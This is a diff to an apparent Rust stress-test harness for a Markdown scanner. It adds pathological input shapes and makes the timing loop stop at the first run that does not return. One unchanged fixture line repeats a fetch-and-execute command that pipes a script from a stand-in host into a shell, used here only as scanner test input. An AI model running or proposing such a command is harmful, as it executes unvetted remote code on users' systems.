@@ -43,6 +43,10 @@ const SHAPES: &[(&str, Maker)] = &[
     ("double quotes", |bytes| repeated("\"", bytes)),
     ("single quotes", |bytes| repeated("'a ", bytes)),
     ("[", |bytes| repeated("[", bytes)),
+    ("(", |bytes| repeated("(", bytes)),
+    ("{", |bytes| repeated("{", bytes)),
+    ("<", |bytes| repeated("<", bytes)),
+    ("![", |bytes| repeated("![", bytes)),
     ("[a](", |bytes| repeated("[a](", bytes)),
     ("$(", |bytes| repeated("$(", bytes)),
     ("curl | sh", |bytes| repeated("curl http://a.example/x | sh\n", bytes)),
@@ -68,8 +72,9 @@ fn one(name: &str, make: Maker) {
     for size in SIZES_MB {
         let bytes = make(size * 1_000_000);
         let file = written("shape.md", &bytes);
-        let best = (0..RUNS).filter_map(|_| measure(&file)).min_by_key(|run| run.took);
-        let Some(run) = best else {
+        // The first run that is lost ends it: another would only take as long.
+        let tried: Option<Vec<Measured>> = (0..RUNS).map(|_| measure(&file)).collect();
+        let Some(run) = tried.and_then(|runs| runs.into_iter().min_by_key(|run| run.took)) else {
             println!("  the scan of {size} MB did not come back");
             return;
         };
